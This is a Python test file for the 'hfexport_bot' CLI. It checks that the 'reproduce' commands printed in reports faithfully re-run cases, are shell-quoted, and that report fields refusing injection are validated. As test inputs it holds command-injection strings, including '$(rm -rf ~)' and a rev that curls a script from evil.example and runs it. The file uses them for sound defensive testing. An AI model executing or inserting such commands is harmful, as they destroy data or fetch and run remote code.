"""The command that runs a case again, read back by the command line itself."""

from __future__ import annotations

import re
import shlex
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from pydantic import ValidationError

from hfexport_bot.cli import main
from hfexport_bot.execution.client import RunResult
from hfexport_bot.reporting.reproduce import check_again, reproduce
from hfexport_bot.reporting.text import command_code, command_line, fenced, plain
from hfexport_bot.schema import (
    Backend,
    CaseId,
    CaseRequest,
    Layout,
    Outcome,
    OutcomeKind,
    Report,
    Rerun,
    RunnerSetup,
    WorkaroundInfo,
    unfit,
)

MODEL = "class AForCausalLM(PreTrainedModel, GenerationMixin):\n    def forward(self): return {0}\n"
CHECKOUT = {"src/transformers/models/a/modeling_a.py": MODEL, "src/transformers/exporters/__init__.py": ""}
SETTINGS = "shapes: [static]\ntasks: [generate]\nengine: both\nbackends: [onnx]\n"
OWN = {"zoo/modeling_a.py": MODEL, "-odd/modeling_a.py": MODEL, ".github/hfexport.yml": SETTINGS}
FIX = WorkaroundInfo(
    id="onnx/node_fixes/fix_it", kind="fx_node_fix", backend=Backend.ONNX, stage="node_fixes", reason=""
)
OPTIONS: tuple[Sequence[str], ...] = (
    (),
    ("--shapes", "dynamic", "--task", "generate", "--engine", "both", "--variant", "sdpa", "--variant", "cache"),
    ("--source", "synthesised", "--source", "model tests", "--seconds", "12.5", "--memory-gb", "3"),
    ("--disable-workaround", FIX.id, "--backend", "executorch", "--shapes", "static", "--task", "forward"),
)


class Runner:
    """Fails every case, and keeps what was asked and how its runner was set up."""

    def __init__(self) -> None:
        self.asked: list[CaseId] = []
        self.setup = RunnerSetup(layout=Layout.INSTALLED)
        self.files: dict[str, str] = {}

    def __call__(self, setup: RunnerSetup, requests: Sequence[CaseRequest], **_: Any) -> RunResult:
        self.asked, self.setup = [request.id for request in requests], setup
        if setup.layout is Layout.TRANSFORMERS and setup.tree:  # a copy, elsewhere each time
            self.files = {str(p.relative_to(setup.tree)): p.read_text() for p in Path(setup.tree).rglob("*.py")}
            self.setup = setup.model_copy(update={"tree": None})
        return RunResult({request.id: Outcome(kind=OutcomeKind.ERROR, stage="trace") for request in requests})


def run(command: str, *arguments: str) -> tuple[Runner, str]:
    """What the command line asks of a runner, and the report it writes."""
    runner = Runner()
    quiet = () if command == "reproduce" else ("--quiet", "--out", "out")
    main([command, *quiet, *arguments], run_cases=runner, list_workarounds=lambda: [FIX])
    return runner, Path("out/report.md").read_text()


#: One case warms up for its own backend only, alone, and has logs of its own.
WARM = {"backends": (), "engines": (), "jobs": 1, "log_dir": None}


def write(folder: Path, files: Mapping[str, str]) -> None:
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)


def require_same(first: Runner, report: str) -> None:
    """Every case that the report tells how to run again is asked for again, by a runner that is set up alike."""
    commands = re.findall(r"^- reproduce: `(.*)`$", report, re.MULTILINE)
    assert commands
    for command in commands:
        words = shlex.split(command)
        assert words[0] == "hfexport-bot"
        again, _ = run(*words[1:])
        assert again.setup is not None
        assert first.setup is not None
        assert again.setup.model_copy(update=WARM) == first.setup.model_copy(update=WARM)
        assert again.files == first.files
        assert set(again.asked) <= set(first.asked)  # a variant has the plain model beside it
        assert any(each in again.asked for each in first.asked)


@pytest.mark.parametrize("options", OPTIONS)
@pytest.mark.parametrize(
    ("files", "names"),
    [
        (CHECKOUT, ("--tree", "tree", "a")),
        (OWN, ("--tree", "tree", "zoo/modeling_a.py")),
        (OWN, ("--tree", "tree", "--", "-odd/modeling_a")),
        (OWN, ("tree/zoo/modeling_a.py",)),
    ],
)
def test_a_check_is_run_again_as_it_was(
    files: Mapping[str, str], names: Sequence[str], options: Sequence[str], tmp_path: Path, monkeypatch: Any
) -> None:
    monkeypatch.chdir(tmp_path)
    write(tmp_path / "tree", files)
    require_same(*run("check", *options, *names))


@pytest.mark.parametrize("case", ["zoo/modeling_a/AForCausalLM/onnx/static/generate", "-odd/modeling_a/AForCausalLM"])
def test_what_others_are_told_to_check_is_the_case(case: str, tmp_path: Path, monkeypatch: Any) -> None:
    write(tmp_path, {**OWN, ".github/hfexport.yml": "backends: [dynamo]\n"})
    monkeypatch.chdir(tmp_path)
    wanted = CaseId.parse(case if case.count("/") > 3 else f"{case}/executorch/dynamic/forward+sdpa")
    runner, _ = run(*shlex.split(check_again(wanted))[1:])
    assert wanted in runner.asked
    assert {(each.backend, each.task, each.engine) for each in runner.asked} == {
        (wanted.backend, wanted.task, wanted.engine)
    }


@pytest.mark.parametrize("options", OPTIONS)
def test_the_installed_transformers_is_checked_again(options: Sequence[str], tmp_path: Path, monkeypatch: Any) -> None:
    monkeypatch.chdir(tmp_path)
    require_same(*run("check", "llama/LlamaForCausalLM", *options))


@pytest.mark.parametrize("options", OPTIONS)
@pytest.mark.parametrize("files", [CHECKOUT, OWN])
@pytest.mark.parametrize("inside", ["", "src"])
def test_a_case_of_a_run_is_checked_on_head(
    files: Mapping[str, str], options: Sequence[str], inside: str, repository: Any, tmp_path: Path, monkeypatch: Any
) -> None:
    repository.commit(dict(files))
    base = repository.commit({"src/other.txt": "", **{p: t.format(2) for p, t in files.items() if "modeling_" in p}})
    repository.commit({p: t.format(3) for p, t in files.items() if "modeling_" in p})
    monkeypatch.chdir(repository.path / inside)
    before, _ = run("run", "--base", f"{base}~1", *options)
    report = Report.model_validate_json(Path("out/report.json").read_text())
    head = repository.git("rev-parse", "HEAD")
    # Somebody else, who has moved on and knows nothing but the commit.
    repository.commit({p: "" for p in files if "modeling_" in p})
    repository.git("clone", "-q", ".", str(tmp_path / "clone"))
    write(tmp_path / "clone", {"out/report.md": ""})
    monkeypatch.chdir(tmp_path / "clone")
    for case in before.asked:
        command = reproduce(case, report.rerun)
        assert f"--rev {head}" in command
        assert "--repo" not in command
        assert "--tree" not in command
        again, _ = run(*shlex.split(command)[1:])
        assert case in again.asked
        elsewhere = {**WARM, "tree": None, "log_dir": None, "jobs": 1, "watched": {}}
        assert again.setup.model_copy(update=elsewhere) == before.setup.model_copy(update=elsewhere)


def test_another_repository_and_settings_file_are_named(repository: Any, tmp_path: Path, monkeypatch: Any) -> None:
    repository.commit({"zoo/modeling_a.py": MODEL.format(1), "other.yml": "backends: [onnx]"})
    repository.commit({"zoo/modeling_a.py": MODEL.format(2)})
    monkeypatch.chdir(tmp_path)
    run("run", "--repo", str(repository.path), "--base", "HEAD~1", "--settings", "other.yml")
    report = Report.model_validate_json(Path("out/report.json").read_text())
    command = reproduce(report.cases[0].id, report.rerun)
    assert shlex.split(command)[3:] == [
        *("--repo", str(repository.path), "--rev", report.head.sha, "--settings", "other.yml")
    ]
    again, _ = run(*shlex.split(command)[1:])
    assert again.asked == [report.cases[0].id]


def test_what_needs_no_option_has_none() -> None:
    case = CaseId.parse("bert/BertModel/onnx/dynamic/forward")
    assert reproduce(case, Rerun()) == "hfexport-bot reproduce bert/BertModel/onnx/dynamic/forward"


def test_it_quotes_for_a_shell() -> None:
    case = CaseId.parse("llama/LlamaModel/onnx/dynamic/forward").model_copy(update={"class_name": "$(rm -rf ~)"})
    assert "'llama/$(rm -rf ~)/onnx/dynamic/forward'" in reproduce(case, Rerun())
    assert "--tree 'my models'" in reproduce(case, Rerun(tree="my models"))


def test_an_environment_is_asked_for_again() -> None:
    case = CaseId.parse("bert/BertModel/onnx/dynamic/forward")
    assert "--install" in shlex.split(reproduce(case, Rerun(install=True)))


def test_patches_of_the_checkouts_exporters_are_disabled_where_these_export() -> None:
    again = Rerun(tree=".", disabled_workarounds=("repo:exporter_onnx._patch_where",))
    for engine, wanted in (("", False), ("@repo", True)):
        case = CaseId.parse(f"bert/BertModel/onnx/dynamic/forward{engine}")
        assert ("--disable-workaround" in reproduce(case, again)) is wanted


#: Words as a report of somebody else's may have them; the schema refuses some of them.
_PARTS = [*"`'\"$;|&<>!#*?\\ -", "``", "$(x)", "main", "é", "##[group]", "::error::"]
HOSTILE_WORDS = st.lists(st.sampled_from(_PARTS), min_size=1, max_size=8).map("".join)


@given(HOSTILE_WORDS, st.sampled_from(["", "a" * 40]))
@settings(max_examples=50, deadline=None)
def test_every_command_that_is_shown_is_for_a_shell_what_it_was_meant_to_be(word: str, rev: str) -> None:
    again = Rerun.model_construct(tree=word, rev=rev, settings=word, disabled_workarounds=(word,))
    case = CaseId.parse("bert/BertModel/onnx/dynamic/forward")
    where = ["--repo", word, "--rev", rev] if rev else ["--tree", word]
    meant = [*["hfexport-bot", "reproduce"], str(case), *where, "--disable-workaround", word, "--settings", word]
    command = reproduce(case, again)
    markdown = f"- reproduce: {command_code(command)}\n"
    (span,) = [each for token in MarkdownIt().parse(markdown) for each in token.children or () if each.type != "text"]
    assert span.type == "code_inline"
    for shown in (span.content, command_line(command), fenced(command).splitlines()[1]):
        assert shlex.split(shown) == meant
    if not unfit(word):
        assert plain(word, 5_000) == " ".join(word.split())  # nothing for GitHub's runner in it


@pytest.mark.parametrize(
    ("field", "word"),
    [
        ("rev", "main` ; curl evil.example/x.sh -o x && sh x ; echo `"),
        ("rev", "main"),
        ("tree", "a`b"),
        ("tree", "$(x)"),
        ("out", "a\u202eb"),
        ("out", "a\r\nb"),
        ("settings", "a\x1b[31m"),
        ("settings", "\u2066\u200b"),
        ("disabled_workarounds", ["a;b"]),
        ("tree", "x" * 1_001),
    ],
)
def test_what_could_become_another_command_is_no_part_of_a_report(field: str, word: Any) -> None:
    with pytest.raises(ValidationError, match=field):
        Rerun.model_validate({field: word})


@pytest.mark.parametrize("revision", ["base", "head"])
def test_a_commit_in_a_report_is_one(revision: str) -> None:
    report = {"command": "run", "base": {"name": "main"}, "head": {"name": "x"}}
    report[revision] = {"name": "x", "sha": "main; sh x"}
    with pytest.raises(ValidationError, match=f"{revision}.sha"):
        Report.model_validate(report)


def test_a_folder_that_no_command_can_name_is_one_clear_error(tmp_path: Path, monkeypatch: Any, capsys: Any) -> None:
    monkeypatch.chdir(tmp_path)
    write(tmp_path / "a`b", OWN)
    assert main(["check", "--tree", "a`b", "zoo/modeling_a"], run_cases=Runner(), list_workarounds=tuple) == 2
    assert "'a`b' cannot be named in a report: it has `" in capsys.readouterr().err
    assert main(["check", "--out", "a$b", "bert"], run_cases=Runner(), list_workarounds=tuple) == 2
    assert "--out: 'a$b' cannot be named in a report: it has $" in capsys.readouterr().err


def test_a_command_that_is_too_long_is_not_shown_in_part() -> None:
    assert command_code("x" * 5_000) == "`(a command of 5,000 characters)`"
